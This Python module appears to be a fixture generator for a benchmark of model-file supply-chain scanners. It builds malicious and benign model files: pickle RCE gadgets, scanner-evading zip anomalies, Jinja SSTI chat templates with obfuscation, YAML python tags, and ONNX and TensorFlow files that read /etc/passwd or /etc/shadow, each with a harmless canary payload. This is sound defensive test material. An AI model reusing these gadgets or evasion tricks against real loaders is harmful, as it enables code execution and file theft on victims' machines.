"""Hostile and benign model files as bytes, one builder per class of attack.

Each builder returns ``dict[name, bytes]``; a name may hold a folder part ("hf_snapshot/config.json").
Malicious builders take the canary path: their payload would ``touch`` it if anything ever loaded
the file. Nothing here loads, unpickles or renders anything: pickles are assembled opcode by opcode,
zips, GGUF, protobuf and safetensors are packed by hand. Only ``onnx_models`` (onnx), ``sevenzip``
(py7zr) and ``lz4_frames`` (lz4) import a library, lazily, to write their container.

Used by bench/supply_chain_bench.py and free for the test suite to reuse.
"""

from __future__ import annotations

import io
import json
import pickle
import shlex
import struct
import tarfile
import zipfile
import zlib
from dataclasses import dataclass
from pathlib import Path

Files = dict[str, bytes]
KiB, MiB, GiB = 1024, 1024 ** 2, 1024 ** 3


# --------------------------------------------------------------------------------------------
# Pickle assembler: writes opcodes only.
# --------------------------------------------------------------------------------------------

@dataclass(frozen=True)
class G:
    """A global reference module.name."""
    module: str
    name: str


@dataclass(frozen=True)
class Call:
    """fn(*args) through REDUCE."""
    fn: object
    args: tuple


@dataclass(frozen=True)
class PersId:
    """A persistent id (BINPERSID), as torch writes storages."""
    value: tuple


@dataclass(frozen=True)
class SetItems:
    """obj[k] = v for each item (SETITEMS on an object built by REDUCE, e.g. an OrderedDict)."""
    obj: object
    items: tuple  # ((key, value), ...)


def _ops(v, proto: int) -> bytes:
    if isinstance(v, G):
        if proto >= 4:
            return _ops(v.module, proto) + _ops(v.name, proto) + pickle.STACK_GLOBAL
        return pickle.GLOBAL + f"{v.module}\n{v.name}\n".encode()
    if isinstance(v, Call):
        return _ops(v.fn, proto) + _ops(tuple(v.args), proto) + pickle.REDUCE
    if isinstance(v, PersId):
        return _ops(v.value, proto) + pickle.BINPERSID
    if isinstance(v, SetItems):
        body = b"".join(_ops(k, proto) + _ops(x, proto) for k, x in v.items)
        return _ops(v.obj, proto) + pickle.MARK + body + pickle.SETITEMS
    if v is None:
        return pickle.NONE
    if isinstance(v, bool):
        return pickle.NEWTRUE if v else pickle.NEWFALSE
    if isinstance(v, int):
        if 0 <= v < 256:
            return pickle.BININT1 + bytes([v])
        if -2 ** 31 <= v < 2 ** 31:
            return pickle.BININT + struct.pack("<i", v)
        raw = v.to_bytes((v.bit_length() + 8) // 8, "little", signed=True)
        return pickle.LONG1 + bytes([len(raw)]) + raw
    if isinstance(v, str):
        b = v.encode()
        if len(b) < 256 and proto >= 4:
            return pickle.SHORT_BINUNICODE + bytes([len(b)]) + b
        return pickle.BINUNICODE + struct.pack("<I", len(b)) + b
    if isinstance(v, bytes):
        if len(v) < 256:
            return pickle.SHORT_BINBYTES + bytes([len(v)]) + v
        return pickle.BINBYTES + struct.pack("<I", len(v)) + v
    if isinstance(v, tuple):
        if not v:
            return pickle.EMPTY_TUPLE
        if len(v) <= 3:
            return b"".join(_ops(x, proto) for x in v) + (pickle.TUPLE1, pickle.TUPLE2, pickle.TUPLE3)[len(v) - 1]
        return pickle.MARK + b"".join(_ops(x, proto) for x in v) + pickle.TUPLE
    if isinstance(v, list):
        return pickle.EMPTY_LIST + (pickle.MARK + b"".join(_ops(x, proto) for x in v) + pickle.APPENDS if v else b"")
    if isinstance(v, dict):
        items = b"".join(_ops(k, proto) + _ops(x, proto) for k, x in v.items())
        return pickle.EMPTY_DICT + (pickle.MARK + items + pickle.SETITEMS if v else b"")
    raise TypeError(f"cannot assemble {v!r}")


def assemble(value, proto: int = 2) -> bytes:
    """A complete pickle (protocol >= 2) whose result is ``value``, evaluated at load time, never here."""
    return pickle.PROTO + bytes([proto]) + _ops(value, proto) + pickle.STOP


def payload_then(payload, value, proto: int = 2) -> bytes:
    """Evaluate ``payload`` and drop its result, then build ``value``: what an injected checkpoint looks like."""
    return pickle.PROTO + bytes([proto]) + _ops(payload, proto) + pickle.POP + _ops(value, proto) + pickle.STOP


def touch(canary: Path) -> str:
    return f"touch {shlex.quote(str(canary))}"


def os_system(canary: Path):
    return Call(G("os", "system"), (touch(canary),))


def _exec_src(canary: Path) -> str:
    return f"import os; os.system({touch(canary)!r})"


# --------------------------------------------------------------------------------------------
# Torch-style checkpoint parts (no torch): the state dict torch.save writes for one 2x2 tensor.
# --------------------------------------------------------------------------------------------

def torch_state_dict_value():
    od = Call(G("collections", "OrderedDict"), ())
    storage = PersId(("storage", G("torch", "FloatStorage"), "0", "cpu", 4))
    tensor = Call(G("torch._utils", "_rebuild_tensor_v2"), (storage, 0, (2, 2), (2, 1), False, od))
    return SetItems(od, (("weight", tensor),))


def torch_members(data_pkl: bytes) -> list[tuple[str, bytes]]:
    """The records of a torch.save zip, data.pkl first as torch writes it."""
    return [("archive/data.pkl", data_pkl), ("archive/byteorder", b"little"),
            ("archive/data/0", struct.pack("<4f", 1, 2, 3, 4)), ("archive/version", b"3\n"),
            ("archive/.data/serialization_id", b"0123456789012345678901234567890123456789")]


def benign_torch_pkl() -> bytes:
    return assemble(torch_state_dict_value())


def evil_torch_pkl(canary: Path) -> bytes:
    return payload_then(os_system(canary), torch_state_dict_value())


# --------------------------------------------------------------------------------------------
# Zip writer with knobs for the anomalies loaders disagree on.
# --------------------------------------------------------------------------------------------

@dataclass
class Member:
    name: str
    data: bytes
    flag: int = 0               # general-purpose bit flag, written to both headers
    deflate: bool = False
    crc: int | None = None      # None = the right CRC-32
    central_name: str | None = None  # None = same as the local name


def zip_bytes(members: list[Member], *, damage_central: bool = False) -> bytes:
    out, central = bytearray(), bytearray()
    for m in members:
        body = zlib.compress(m.data, 6)[2:-4] if m.deflate else m.data
        crc = zlib.crc32(m.data) if m.crc is None else m.crc
        method = 8 if m.deflate else 0
        name, cname = m.name.encode(), (m.central_name or m.name).encode()
        offset = len(out)
        out += struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, m.flag, method, 0, 0x21, crc, len(body), len(m.data), len(name), 0) + name + body
        central += struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, m.flag, method, 0, 0x21, crc, len(body), len(m.data),
                               len(cname), 0, 0, 0, 0, 0, offset) + cname
    if damage_central:  # every central record's signature broken; the local headers stay intact
        central = central.replace(b"PK\x01\x02", b"PK\x01\x09")
    cd_offset = len(out)
    out += central
    out += struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(members), len(members), len(central), cd_offset, 0)
    return bytes(out)


def torch_zip(data_pkl: bytes, **anomaly) -> bytes:
    """A torch-like checkpoint zip; ``anomaly`` is applied to the data.pkl member (Member fields)."""
    members = [Member(n, d) for n, d in torch_members(data_pkl)]
    damage = anomaly.pop("damage_central", False)
    for k, v in anomaly.items():
        setattr(members[0], k, v)
    return zip_bytes(members, damage_central=damage)


def tar_bytes(files: Files, gz: bool = False) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz" if gz else "w") as tf:
        for name, data in files.items():
            info = tarfile.TarInfo(name)
            info.size, info.mtime = len(data), 1700000000
            tf.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def plain_zip(files: Files) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in files.items():
            zf.writestr(name, data)
    return buf.getvalue()


# --------------------------------------------------------------------------------------------
# 1. Pickles calling globals that are missing from common denylists (public advisories)
# --------------------------------------------------------------------------------------------

def unlisted_gadget_pickles(canary: Path) -> Files:
    cmd, src = touch(canary), _exec_src(canary)
    inner = assemble(os_system(canary))
    gadgets = {
        # torch DataPipes decoder: basichandlers('pickle', data) returns pickle.loads(data)
        "gadget_torch_basichandlers.pkl": Call(G("torch.utils.data.datapipes.utils.decoder", "basichandlers"), ("pickle", inner)),
        # numpy.f2py: myeval is eval() (picklescan GHSA-r8g5-cgf2-4m4m used its caller getlincoef)
        "gadget_numpy_f2py_myeval.pkl": Call(G("numpy.f2py.crackfortran", "myeval"), (f"__import__('os').system({cmd!r})",)),
        # numpy.testing: runstring is exec()
        "gadget_numpy_runstring.pkl": Call(G("numpy.testing._private.utils", "runstring"), (src, {})),
        # pydoc.pipepager(text, cmd) runs cmd through the shell
        "gadget_pydoc_pipepager.pkl": Call(G("pydoc", "pipepager"), ("", cmd)),
        # uuid._get_command_stdout(cmd, *args) runs a program (GHSA-g38g-8gr9-h9xp)
        "gadget_uuid_command.pkl": Call(G("uuid", "_get_command_stdout"), ("touch", str(canary))),
        # timeit.timeit(stmt) compiles and runs stmt
        "gadget_timeit.pkl": Call(G("timeit", "timeit"), (src, "pass", None, 1)),
        # cProfile.run(statement) execs it
        "gadget_cprofile_run.pkl": Call(G("cProfile", "run"), (src,)),
        # logging.FileHandler(path) opens (creates) the file: the canary itself
        "gadget_logging_filehandler.pkl": Call(G("logging", "FileHandler"), (str(canary),)),
        # _io.FileIO(path, 'w') creates the file
        "gadget_io_fileio.pkl": Call(G("_io", "FileIO"), (str(canary), "w")),
    }
    return {name: assemble(v, 4 if i % 2 else 2) for i, (name, v) in enumerate(gadgets.items())}


# --------------------------------------------------------------------------------------------
# 2. Zip anomalies, each holding a torch-style data.pkl payload
# --------------------------------------------------------------------------------------------

def zip_anomalies(canary: Path) -> Files:
    evil = evil_torch_pkl(canary)
    return {
        "zip_encrypt_flag_unencrypted.pt": torch_zip(evil, flag=0x1),    # "encrypted", but the bytes are plain
        "zip_flag_bit5_patched.pt": torch_zip(evil, flag=0x20),          # compressed patched data
        "zip_flag_bit6_strong_encryption.pt": torch_zip(evil, flag=0x40),
        "zip_wrong_crc.pt": torch_zip(evil, crc=0xDEADBEEF),
        "zip_name_mismatch.pt": torch_zip(evil, central_name="archive/data.txt"),
        "zip_damaged_central_directory.pt": torch_zip(evil, damage_central=True),
        "zip_deflated_data_pkl.pt": torch_zip(evil, deflate=True),
    }


def benign_zips() -> Files:
    return {"zip_torch_like_benign.pt": torch_zip(benign_torch_pkl()),
            "zip_torch_like_benign_deflated.pt": torch_zip(benign_torch_pkl(), deflate=True)}


# --------------------------------------------------------------------------------------------
# 3. 7z and lz4 containers
# --------------------------------------------------------------------------------------------

def sevenzip(files: Files) -> bytes:
    import py7zr

    buf = io.BytesIO()
    with py7zr.SevenZipFile(buf, "w") as z:
        for name, data in files.items():
            z.writestr(data, name)
    return buf.getvalue()


def archives_7z_lz4(canary: Path) -> Files:
    import lz4.frame

    evil = assemble(os_system(canary))
    return {"payload.7z": sevenzip({"model/model.pkl": evil, "model/config.json": b"{}"}),
            "payload.pkl.lz4": lz4.frame.compress(evil),
            "payload_pt.lz4": lz4.frame.compress(torch_zip(evil_torch_pkl(canary)))}


def benign_7z_lz4() -> Files:
    import lz4.frame

    st = safetensors_bytes()
    return {"benign.7z": sevenzip({"model/model.safetensors": st, "model/config.json": b'{"hidden": 4}'}),
            "benign.safetensors.lz4": lz4.frame.compress(st)}


# --------------------------------------------------------------------------------------------
# 4. safetensors, well-formed and malformed
# --------------------------------------------------------------------------------------------

def safetensors_bytes(header: dict | None = None, data: bytes | None = None) -> bytes:
    data = struct.pack("<4f", 1, 2, 3, 4) if data is None else data
    header = header or {"weight": {"dtype": "F32", "shape": [2, 2], "data_offsets": [0, 16]}, "__metadata__": {"format": "pt"}}
    raw = json.dumps(header, separators=(",", ":")).encode()
    raw += b" " * (-len(raw) % 8)
    return struct.pack("<Q", len(raw)) + raw + data


def malformed_safetensors() -> Files:
    good = safetensors_bytes()
    overlap = {"a": {"dtype": "F32", "shape": [2, 2], "data_offsets": [0, 16]}, "b": {"dtype": "F32", "shape": [2, 2], "data_offsets": [8, 24]}}
    past_end = {"weight": {"dtype": "F32", "shape": [1024, 1024], "data_offsets": [0, 4 * MiB]}}
    return {
        "st_header_len_past_eof.safetensors": struct.pack("<Q", len(good) * 10) + good[8:],
        "st_header_len_huge.safetensors": struct.pack("<Q", 2 ** 62) + good[8:],
        "st_header_not_json.safetensors": struct.pack("<Q", 16) + b"{not json!!!!!!}" + good[-16:],
        "st_overlapping_offsets.safetensors": safetensors_bytes(overlap, bytes(24)),
        "st_offsets_past_eof.safetensors": safetensors_bytes(past_end),
        "st_shape_dtype_mismatch.safetensors": safetensors_bytes({"weight": {"dtype": "F32", "shape": [3, 3], "data_offsets": [0, 16]}}),
    }


# --------------------------------------------------------------------------------------------
# 5. TensorFlow SavedModel protobuf, hand-encoded
# --------------------------------------------------------------------------------------------

def varint(n: int) -> bytes:
    out = bytearray()
    while True:
        b, n = n & 0x7F, n >> 7
        out.append(b | (0x80 if n else 0))
        if not n:
            return bytes(out)


def _pb_bytes(field_no: int, data: bytes | str) -> bytes:
    data = data.encode() if isinstance(data, str) else data
    return varint(field_no << 3 | 2) + varint(len(data)) + data


def _pb_int(field_no: int, n: int) -> bytes:
    return varint(field_no << 3) + varint(n)


DT_FLOAT, DT_STRING = 1, 7


def _attr(key: str, value: bytes) -> bytes:
    """NodeDef.attr map entry: {1: key, 2: AttrValue}."""
    return _pb_bytes(5, _pb_bytes(1, key) + _pb_bytes(2, value))


def _string_tensor(s: str) -> bytes:
    # TensorProto: dtype=1, tensor_shape=2 (scalar), string_val=8
    return _pb_int(1, DT_STRING) + _pb_bytes(2, b"") + _pb_bytes(8, s)


def _node(name: str, op: str, inputs: tuple[str, ...] = (), attrs: bytes = b"") -> bytes:
    return _pb_bytes(1, _pb_bytes(1, name) + _pb_bytes(2, op) + b"".join(_pb_bytes(3, i) for i in inputs) + attrs)


def saved_model_pb(nodes: list[bytes]) -> bytes:
    graph = b"".join(nodes) + _pb_bytes(4, _pb_int(1, 1700))        # GraphDef: node=1, versions=4
    meta_info = _pb_bytes(4, "serve") + _pb_bytes(5, "2.21.0")      # MetaInfoDef: tags=4, tensorflow_version=5
    meta_graph = _pb_bytes(1, meta_info) + _pb_bytes(2, graph)     # MetaGraphDef: meta_info_def=1, graph_def=2
    return _pb_int(1, 1) + _pb_bytes(2, meta_graph)                 # SavedModel: schema_version=1, meta_graphs=2


def _const_string(name: str, s: str) -> bytes:
    return _node(name, "Const", (), _attr("dtype", _pb_int(6, DT_STRING)) + _attr("value", _pb_bytes(8, _string_tensor(s))))


def savedmodel_hostile(canary: Path) -> Files:
    pyfunc_attrs = _attr("token", _pb_bytes(2, "pyfunc_0")) + _attr("Tin", _pb_bytes(1, _pb_int(6, DT_STRING))) + _attr("Tout", _pb_bytes(1, _pb_int(6, DT_STRING)))
    nodes = [_const_string("secret_path", "/etc/passwd"), _node("read", "ReadFile", ("secret_path",)),
             _node("exfil", "PyFunc", ("read",), pyfunc_attrs),
             _const_string("canary_path", str(canary)), _node("write", "WriteFile", ("canary_path", "read"))]
    return {"tf_pyfunc_readfile/saved_model.pb": saved_model_pb(nodes)}


def savedmodel_benign() -> Files:
    weights = _pb_int(1, DT_FLOAT) + _pb_bytes(2, _pb_bytes(2, _pb_int(1, 2)) + _pb_bytes(2, _pb_int(1, 2))) + _pb_bytes(4, struct.pack("<4f", 1, 0, 0, 1))
    nodes = [_node("x", "Placeholder", (), _attr("dtype", _pb_int(6, DT_FLOAT))),
             _node("w", "Const", (), _attr("dtype", _pb_int(6, DT_FLOAT)) + _attr("value", _pb_bytes(8, weights))),
             _node("matmul", "MatMul", ("x", "w"), _attr("T", _pb_int(6, DT_FLOAT))),
             _node("y", "Identity", ("matmul",), _attr("T", _pb_int(6, DT_FLOAT)))]
    return {"tf_benign_matmul/saved_model.pb": saved_model_pb(nodes)}


# --------------------------------------------------------------------------------------------
# 6. Jinja chat templates: tokenizer_config.json, .jinja, GGUF metadata
# --------------------------------------------------------------------------------------------

BENIGN_CHATML = ("{% for message in messages %}{{ '<|im_start|>' + message['role'] + '\\n' + message['content'] + '<|im_end|>' + '\\n' }}"
                 "{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}")
BENIGN_LLAMA = ("{{ bos_token }}{% for message in messages %}{% if (message['role'] == 'user') != (loop.index0 % 2 == 0) %}"
                "{{ raise_exception('Conversation roles must alternate user/assistant/user/assistant/...') }}{% endif %}"
                "{% if message['role'] == 'user' %}{{ '[INST] ' + message['content'] | trim + ' [/INST]' }}"
                "{% elif message['role'] == 'assistant' %}{{ ' ' + message['content'] | trim + eos_token }}{% endif %}{% endfor %}")


def ssti_templates(canary: Path) -> dict[str, str]:
    cmd = touch(canary)
    return {
        # jinja2's default globals expose cycler/joiner/namespace, whose __init__.__globals__ reach os
        "cycler_globals": "{% for m in messages %}{{ m['content'] }}{% endfor %}"
                          "{{ cycler.__init__.__globals__.os.popen('" + cmd + "').read() }}",
        # walk object's subclasses to a class whose module imported os (CVE-2024-34359 style)
        "subclasses_walk": "{% for c in ().__class__.__base__.__subclasses__() %}{% if c.__name__ == 'catch_warnings' %}"
                           "{{ c()._module.__builtins__['__import__']('os').system('" + cmd + "') }}{% endif %}{% endfor %}",
        # attribute names built from filters so plain substring checks miss them
        "attr_filter_obfuscated": "{{ (lipsum|attr('__glo' ~ 'bals__'))['o' ~ 's'].popen('" + cmd + "').read() }}",
    }


def _tokenizer_config(template) -> bytes:
    return json.dumps({"bos_token": "<s>", "eos_token": "</s>", "model_max_length": 4096,
                       "tokenizer_class": "LlamaTokenizer", "chat_template": template}, indent=2).encode()


def chat_templates(canary: Path) -> Files:
    t = ssti_templates(canary)
    return {
        "tokenizer_ssti_cycler/tokenizer_config.json": _tokenizer_config(t["cycler_globals"]),
        "tokenizer_ssti_subclasses/tokenizer_config.json": _tokenizer_config(t["subclasses_walk"]),
        # the list form: named templates, the malicious one not named "default"
        "tokenizer_ssti_named/tokenizer_config.json": _tokenizer_config([{"name": "default", "template": BENIGN_CHATML},
                                                                         {"name": "tool_use", "template": t["attr_filter_obfuscated"]}]),
        "jinja_ssti/chat_template.jinja": t["cycler_globals"].encode(),
    }


def benign_chat_templates() -> Files:
    return {"tokenizer_chatml/tokenizer_config.json": _tokenizer_config(BENIGN_CHATML),
            "tokenizer_llama/tokenizer_config.json": _tokenizer_config(BENIGN_LLAMA),
            "jinja_chatml/chat_template.jinja": BENIGN_CHATML.encode()}


# GGUF v3: magic, version, tensor count, kv count, kvs, tensor infos, padding to alignment, data
GGUF_UINT32, GGUF_STRING, GGUF_F32 = 4, 8, 0


def _gguf_str(s: str) -> bytes:
    b = s.encode()
    return struct.pack("<Q", len(b)) + b


def gguf_bytes(metadata: dict[str, str | int]) -> bytes:
    kvs = b""
    for key, value in metadata.items():
        if isinstance(value, int):
            kvs += _gguf_str(key) + struct.pack("<II", GGUF_UINT32, value)
        else:
            kvs += _gguf_str(key) + struct.pack("<I", GGUF_STRING) + _gguf_str(value)
    tensor_info = _gguf_str("token_embd.weight") + struct.pack("<I", 2) + struct.pack("<QQ", 2, 2) + struct.pack("<IQ", GGUF_F32, 0)
    head = b"GGUF" + struct.pack("<IQQ", 3, 1, len(metadata)) + kvs + tensor_info
    head += b"\0" * (-len(head) % 32)
    return head + struct.pack("<4f", 1, 2, 3, 4)


def _gguf_meta(template: str) -> dict:
    return {"general.architecture": "llama", "general.name": "tiny", "general.alignment": 32,
            "tokenizer.ggml.model": "llama", "tokenizer.chat_template": template}


def gguf_files(canary: Path) -> Files:
    return {"gguf_ssti.gguf": gguf_bytes(_gguf_meta(ssti_templates(canary)["cycler_globals"]))}


def benign_gguf() -> Files:
    return {"gguf_chatml.gguf": gguf_bytes(_gguf_meta(BENIGN_CHATML))}


# --------------------------------------------------------------------------------------------
# 7. YAML with python tags
# --------------------------------------------------------------------------------------------

def yaml_files(canary: Path) -> Files:
    cmd = touch(canary)
    return {
        "yaml_apply_os_system.yaml": f"model: tiny\nlr: 0.001\ncallback: !!python/object/apply:os.system [{json.dumps(cmd)}]\n".encode(),
        "yaml_new_popen.yml": f"trainer:\n  hook: !!python/object/new:subprocess.Popen [[touch, {json.dumps(str(canary))}]]\n".encode(),
        "yaml_name_eval.yaml": b"preprocess: !!python/name:builtins.eval\nseed: 0\n",
    }


def benign_yaml() -> Files:
    return {"yaml_train_config.yaml": b"model:\n  name: tiny\n  layers: [64, 128, 10]\noptimizer:\n  type: adam\n  lr: 0.001\n"
                                      b"data:\n  path: ./data\n  shuffle: true\nseed: 0\n"}


# --------------------------------------------------------------------------------------------
# 8. ONNX with external data (built with the onnx package)
# --------------------------------------------------------------------------------------------

def _onnx_model(producer: str, location: str) -> bytes:
    from onnx import TensorProto, helper

    w = TensorProto(name="W", data_type=TensorProto.FLOAT, dims=[2, 2])
    w.data_location = TensorProto.EXTERNAL
    for k, v in (("location", location), ("offset", "0"), ("length", "16")):
        entry = w.external_data.add()
        entry.key, entry.value = k, v
    graph = helper.make_graph([helper.make_node("MatMul", ["X", "W"], ["Y"])], "tiny",
                              [helper.make_tensor_value_info("X", TensorProto.FLOAT, [1, 2])],
                              [helper.make_tensor_value_info("Y", TensorProto.FLOAT, [1, 2])], initializer=[w])
    model = helper.make_model(graph, producer_name=producer, producer_version="2.13.0", opset_imports=[helper.make_opsetid("", 17)])
    model.ir_version = 8
    return model.SerializeToString()


def onnx_hostile() -> Files:
    return {"onnx_traversal/model.onnx": _onnx_model("pytorch-custom", "../../etc/passwd"),
            "onnx_absolute/model.onnx": _onnx_model("pytorch", "/etc/shadow")}


def onnx_benign() -> Files:
    return {"onnx_external_benign/model.onnx": _onnx_model("pytorch", "weights.bin"),
            "onnx_external_benign/weights.bin": struct.pack("<4f", 1, 0, 0, 1)}


# --------------------------------------------------------------------------------------------
# 9. Broken Keras, escape-sequence names
# --------------------------------------------------------------------------------------------

def _keras_zip() -> bytes:
    config = {"module": "keras", "class_name": "Sequential", "config": {"name": "seq", "layers": [
        {"module": "keras.layers", "class_name": "InputLayer", "config": {"batch_shape": [None, 8], "dtype": "float32"}},
        {"module": "keras.layers", "class_name": "Dense", "config": {"units": 2, "activation": "linear"}}]}}
    return plain_zip({"metadata.json": json.dumps({"keras_version": "3.15.1"}).encode(),
                      "config.json": json.dumps(config).encode(),
                      "model.weights.h5": b"\x89HDF\r\n\x1a\n" + bytes(4096)})


def broken_containers(canary: Path) -> Files:
    keras = _keras_zip()
    name = "\x1b]0;all clear\x07\x1b[2K\rmodel.pkl"  # sets the window title and wipes the line a terminal prints
    return {"keras_truncated.keras": keras[: len(keras) * 6 // 10],
            "zip_escape_sequence_name.zip": zip_bytes([Member(name, assemble(os_system(canary))), Member("README.md", b"weights\n")])}


# --------------------------------------------------------------------------------------------
# 10. Hugging Face-style snapshot folder, and it zipped / tarred
# --------------------------------------------------------------------------------------------

def hf_folder(pytorch_bin: bytes | None = None) -> Files:
    files = {
        "config.json": json.dumps({"architectures": ["LlamaForCausalLM"], "hidden_size": 4, "model_type": "llama",
                                   "torch_dtype": "float32", "vocab_size": 2}).encode(),
        "generation_config.json": b'{"bos_token_id": 1, "eos_token_id": 2}',
        "special_tokens_map.json": b'{"bos_token": "<s>", "eos_token": "</s>"}',
        "tokenizer.json": json.dumps({"version": "1.0", "model": {"type": "BPE", "vocab": {"<s>": 0, "</s>": 1}, "merges": []}}).encode(),
        "tokenizer_config.json": _tokenizer_config(BENIGN_LLAMA),
        "model.safetensors": safetensors_bytes(),
    }
    if pytorch_bin is not None:
        files["pytorch_model.bin"] = pytorch_bin
    return files


def hf_snapshots(canary: Path) -> Files:
    files = {f"snapshot/{k}": v for k, v in hf_folder(torch_zip(evil_torch_pkl(canary))).items()}
    return {"hf_snapshot_payload.zip": plain_zip(files), "hf_snapshot_payload.tar": tar_bytes(files)}


def benign_hf() -> Files:
    files = hf_folder(torch_zip(benign_torch_pkl()))
    out = {f"hf_benign/{k}": v for k, v in files.items()}
    snap = {f"snapshot/{k}": v for k, v in files.items()}
    out.update({"hf_snapshot_benign.zip": plain_zip(snap), "hf_snapshot_benign.tar": tar_bytes(snap)})
    return out


# --------------------------------------------------------------------------------------------
# 11. Amplification: a small zip that inflates to a huge data.pkl (written streaming)
# --------------------------------------------------------------------------------------------

def write_amplification_zip(path: Path, canary: Path, inflated: int = GiB, payload_first: bool = False) -> int:
    """A torch-like zip whose data.pkl holds ``inflated`` bytes in one BINBYTES8 argument and an os.system payload
    (after the argument unless ``payload_first``). 8 KiB of noise per MiB makes it deflate ~110x: under the 200x
    bomb limit, so a scanner must stream it rather than refuse it. Written in chunks so neither side ever holds it.
    Returns the zip's size."""
    evil = _ops(os_system(canary), 4) + pickle.POP
    head = pickle.PROTO + b"\x04" + (evil if payload_first else b"") + pickle.BINBYTES8 + struct.pack("<Q", inflated)
    tail = pickle.POP + (b"" if payload_first else evil) + pickle.NONE + pickle.STOP
    write_streamed_zip(path, b"archive/data.pkl", _amplified_pieces(head, inflated, tail))
    return path.stat().st_size


def write_streamed_zip(path: Path, name: bytes, chunks) -> None:
    """One deflated member written from an iterator of chunks, with zip64 sizes (the member may pass 4 GiB)."""
    z, crc, usize, csize = zlib.compressobj(1, zlib.DEFLATED, -15), 0, 0, 0
    with path.open("wb") as f:
        f.write(b"\0" * (30 + len(name)))  # the local header, rewritten once the sizes are known
        for chunk in chunks:
            crc, usize = zlib.crc32(chunk, crc), usize + len(chunk)
            out = z.compress(chunk)
            csize += len(out)
            f.write(out)
        out = z.flush()
        csize += len(out)
        f.write(out)
        zip64 = struct.pack("<HHQQ", 1, 16, usize, csize)
        f.seek(0)
        f.write(struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 45, 0, 8, 0, 0, crc, 0xFFFFFFFF, 0xFFFFFFFF, len(name), 0) + name)
        f.seek(0, 2)
        cd_start = f.tell()
        f.write(struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 45, 45, 0, 8, 0, 0, crc, 0xFFFFFFFF, 0xFFFFFFFF,
                            len(name), len(zip64), 0, 0, 0, 0, 0) + name + zip64)
        cd_size = f.tell() - cd_start
        f.write(struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 1, 1, cd_size, cd_start, 0))


def _amplified_pieces(head: bytes, n: int, tail: bytes):
    import os

    yield head
    block = MiB
    for _ in range(n // block):
        yield os.urandom(8 * KiB) + bytes(block - 8 * KiB)
    yield bytes(n % block)
    yield tail


# --------------------------------------------------------------------------------------------
# Catalogue: (builder, label, format, trick) for the bench and tests
# --------------------------------------------------------------------------------------------

def malicious_sets(canary: Path) -> dict[str, Files]:
    """Classes whose files carry a payload: loading (or rendering) them would run code or leak files."""
    return {
        "unlisted_gadget": unlisted_gadget_pickles(canary),
        "zip_anomaly": zip_anomalies(canary),
        "7z_lz4": archives_7z_lz4(canary),
        "savedmodel_ops": savedmodel_hostile(canary),
        "chat_template_ssti": chat_templates(canary),
        "gguf_ssti": gguf_files(canary),
        "yaml_python_tag": yaml_files(canary),
        "onnx_external_data": onnx_hostile(),
        "escape_name": {k: v for k, v in broken_containers(canary).items() if "escape" in k},
        "hf_snapshot": hf_snapshots(canary),
    }


def hostile_sets(canary: Path) -> dict[str, Files]:
    """Files with no verified payload that a fail-closed gate must still refuse: it cannot read them."""
    return {"malformed_safetensors": malformed_safetensors(),
            "truncated_keras": {k: v for k, v in broken_containers(canary).items() if "truncated" in k}}


def benign_sets() -> dict[str, Files]:
    return {"zip_benign": benign_zips(), "7z_lz4_benign": benign_7z_lz4(), "safetensors_benign": {"model.safetensors": safetensors_bytes()},
            "savedmodel_benign": savedmodel_benign(), "chat_template_benign": benign_chat_templates(), "gguf_benign": benign_gguf(),
            "yaml_benign": benign_yaml(), "onnx_benign": onnx_benign(), "hf_benign": benign_hf()}
